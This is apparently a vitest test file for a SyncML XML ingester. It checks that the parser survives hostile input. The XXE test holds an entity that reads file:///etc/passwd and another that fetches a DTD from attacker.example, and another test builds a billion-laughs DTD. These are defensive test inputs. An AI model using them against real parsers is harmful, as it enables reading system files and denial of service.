import { describe, expect, it } from 'vitest';
import { MAX_VALUE_CHARS } from '../../src/ingest/syncml-reader.ts';
import { MAX_TAG_CHARS } from '../../src/ingest/xml-tokenizer.ts';
import { ingestFiles, summarize } from '../support/ingest-text.ts';

const HEADER = '<SyncHdr><Source><LocURI>IMEI:1</LocURI></Source></SyncHdr>';

function alert(data: string): string {
  return `<Alert><Data>1226</Data><Item><Meta><Type>urn:oma:at:scomo:1.0:OperationComplete</Type></Meta><Data>${data}</Data></Item></Alert>`;
}

function message(body: string): string {
  return `<SyncML>${HEADER}<SyncBody>${body}</SyncBody></SyncML>\n`;
}

describe('hostile XML', () => {
  it('never expands entities: a billion-laughs DTD leaves its entity as literal text, rejected as a code', async () => {
    const lol = [
      '<?xml version="1.0"?>',
      '<!DOCTYPE SyncML [',
      ' <!ENTITY lol "lol">',
      ...Array.from(
        { length: 9 },
        (_, k) => ` <!ENTITY lol${k + 1} "${`&lol${k === 0 ? '' : k};`.repeat(10)}">`,
      ),
      ']>',
      message(alert('&lol9;') + alert('1200')),
    ].join('\n');
    const { report } = await ingestFiles({ 'lol.xml': lol });
    expect(report.rowsRead).toBe(2);
    expect(report.rejectedSample.map((r) => [r.line, r.reason])).toEqual([
      [14, 'result code "&lol9;" is not an integer'],
    ]);
    expect(report.warnings).toEqual(
      expect.arrayContaining(['lol.xml: line 2: a DOCTYPE: skipped, its entities are not expanded.']),
    );
  });

  it('never reads an external entity (XXE): the reference stays text', async () => {
    const xxe = `<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd"> <!ENTITY % p SYSTEM "http://attacker.example/x.dtd"> %p;]>\n${message(alert('&xxe;'))}`;
    const { report } = await ingestFiles({ 'xxe.xml': xxe });
    expect(report.rejectedSample.map((r) => r.reason)).toEqual(['result code "&xxe;" is not an integer']);
    expect(JSON.stringify(report)).not.toContain('root:');
  });

  it('reads past 100,000-deep nesting without a stack overflow, and keeps the messages around it', async () => {
    const deep = `${'<a>'.repeat(100_000)}x${'</a>'.repeat(100_000)}`;
    const text = message(alert('1200')) + deep + message(alert('1404'));
    const summary = await summarize('deep.xml', text);
    expect(summary.totals).toMatchObject({ operations: 2, failures: 1 });
    // the same nesting inside a message, never closed: the message is rejected, nothing else is
    const open = `${message(alert('1200'))}<SyncML>${HEADER}<SyncBody>${'<b>'.repeat(100_000)}`;
    const { report } = await ingestFiles({ 'deep-open.xml': open });
    expect(report.rowsRead).toBe(2);
    expect(report.rejectedSample).toHaveLength(1);
    expect(report.rejectedSample[0]?.reason).toMatch(
      /^the command is not well-formed: the file ends inside <b>/,
    );
  });

  it('a truncated message keeps the items before the cut and rejects the one it cuts, with its line', async () => {
    const whole = message(`${alert('1200')}\n${alert('1404')}`);
    const cut = whole.slice(0, whole.lastIndexOf('<Data>1404'));
    const { report } = await ingestFiles({ 'cut.xml': `${message(alert('1502'))}${cut}` });
    expect(report.rowsRead).toBe(3);
    expect(report.rejectedSample).toEqual([
      {
        file: 'cut.xml',
        line: 3,
        reason: expect.stringMatching(/^the item is not well-formed: the file ends inside <Item> of line 3/),
      },
    ]);
  });

  it('an unclosed or mismatched tag rejects the item it breaks; the next items and messages are read', async () => {
    const text = [
      message(alert('1200')),
      message(`<Alert><Data>1226</Data><Item><Data>1404</Itme></Item></Alert>${alert('1406')}`),
      message(`<Alert><Data>1226</Data><Item><Data>1401</Item></Alert>${alert('1502')}`),
      message(alert('1200')),
    ].join('');
    const { report } = await ingestFiles({ 'broken.xml': text });
    expect(report.rowsRead).toBe(6);
    expect(report.rejectedSample.map((r) => [r.line, r.reason])).toEqual([
      [
        2,
        'the item is not well-formed: a closing tag </Itme> that matches no open element (<Data> of line 2 is open) (line 2)',
      ],
      [3, 'the item is not well-formed: </Item> closes <Data> of line 3, which has no closing tag (line 3)'],
    ]);
    const summary = await summarize('broken.xml', text);
    expect(summary.totals).toMatchObject({ operations: 4, failures: 2 });
  });

  it('a huge text node outside the values read costs nothing; one inside a value rejects its item', async () => {
    const huge = 'x'.repeat(5_000_000);
    const text = message(
      `<Alert><Data>1226</Data><Item><Meta><Type>urn:oma:at:scomo:1.0:OperationComplete</Type><Mark>${huge}</Mark></Meta><Data>1200</Data></Item></Alert>${alert(`1${'0'.repeat(MAX_VALUE_CHARS)}`)}`,
    );
    const { report } = await ingestFiles({ 'huge.xml': text });
    expect(report.rowsRead).toBe(2);
    expect(report.rejectedSample.map((r) => r.reason)).toEqual([
      'the item is not well-formed: <Item/Data> holds more than 65,536 characters',
    ]);
  });

  it('a tag that never ends: reported, its `<` read as text, the rows before kept', async () => {
    const text = `${message(alert('1200'))}<SyncML ${'a'.repeat(MAX_TAG_CHARS + 10)}`;
    const { report } = await ingestFiles({ 'tag.xml': text }, { chunkSize: 65_536 });
    expect(report.rowsRead).toBe(1);
    expect(report.warnings).toEqual(
      expect.arrayContaining([
        `tag.xml: line 2: a tag longer than ${MAX_TAG_CHARS.toLocaleString('en-US')} characters.`,
      ]),
    );
  });

  it('comments, processing instructions and CDATA that never end are reported, not held', async () => {
    for (const tail of ['<!-- never closed', '<?pi never closed', '<![CDATA[ never closed']) {
      const { report } = await ingestFiles({
        'tail.xml': message(alert('1200')) + tail + 'y'.repeat(3_000_000),
      });
      expect(report.rowsRead).toBe(1);
      expect(report.warnings.join('\n')).toMatch(
        /the file ends inside a (comment|processing instruction|CDATA section) \(line 2\)/,
      );
    }
  });

  it('element and attribute names such as __proto__ are data', async () => {
    const text = `<__proto__ constructor="x" time="2026-10-01T00:00:00Z">${message(alert('1200'))}</__proto__>`;
    const summary = await summarize('proto.xml', text);
    expect(summary.totals.operations).toBe(1);
    expect(({} as Record<string, unknown>).constructor).toBe(Object);
  });
});
